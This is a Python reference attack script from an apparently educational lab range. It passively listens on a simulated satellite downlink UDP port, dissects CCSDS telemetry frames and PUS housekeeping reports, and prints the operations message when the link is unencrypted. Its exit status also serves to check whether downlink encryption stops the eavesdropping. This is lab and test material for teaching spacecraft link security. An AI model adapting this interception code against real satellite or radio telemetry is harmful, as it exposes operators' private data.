"""Reference attack for downlink-eavesdrop: run on the attacker workstation, as the student.

1. Listen on the downlink air (UDP 5103 on the rf segment: the rf-link broadcasts every
   telemetry frame there, for the ground station and for anyone else in range).
2. Dissect each datagram with labctl's scapy layers: TM transfer frame, then the Space
   Packets in its data field, then the PUS-C TM secondary header. Housekeeping is PUS 3,25;
   structure 1 ends with the operations message (32 octets of text).
3. Print the operations message of the first housekeeping report read in the clear.

Exit status 0 when a housekeeping report was read, 2 when nothing readable was heard (for
instance once the downlink is encrypted: the data field is then an SDLS header and
ciphertext, and no Space Packet in it checks out).
"""

from __future__ import annotations

import socket
import sys
import time

from labctl.errors import ProtocolError
from labctl.protocols.layers import PusTm, TMFrame, dissect, space_packets
from labctl.range import wiring
from labctl.range.hosts.catalog import Housekeeping

LISTEN_S = 30.0
DOWNLINK_AIR = wiring.DOWNLINK_AIR
IDLE_VCID = 7


def housekeeping_in(datagram: bytes) -> tuple[int, Housekeeping] | None:
    """(SCID, report) of the first clear housekeeping report in one TM frame, if any."""
    try:
        frame = dissect(TMFrame, datagram)
    except ProtocolError:
        return None  # not a TM frame, or its FECF is wrong
    if frame.vcid == IDLE_VCID:
        return None  # idle frame carrying the Frame Security Report
    for packet in space_packets(bytes(frame.payload)):
        if not packet.haslayer(PusTm) or not packet[PusTm].pec_ok:
            continue
        report = packet[PusTm]
        if (report.service, report.subtype) != (3, 25):
            continue
        try:
            return frame.scid, Housekeeping.decode(bytes(report.payload))
        except ProtocolError:
            continue
    return None


def main() -> int:
    print(f"listening on the downlink air (UDP {DOWNLINK_AIR})...", flush=True)
    heard = 0
    deadline = time.monotonic() + LISTEN_S
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("", DOWNLINK_AIR))
        while (left := deadline - time.monotonic()) > 0:
            sock.settimeout(left)
            try:
                datagram = sock.recv(4096)
            except TimeoutError:
                break
            heard += 1
            found = housekeeping_in(datagram)
            if found is not None:
                scid, hk = found
                print(f"SCID {scid} housekeeping: mode {hk.mode.name}, battery {hk.battery_pct} %")
                print(f"ops message: {hk.ops_message}")
                return 0
    print(f"{heard} frames heard, no housekeeping readable in the clear")
    return 2


if __name__ == "__main__":
    sys.exit(main())
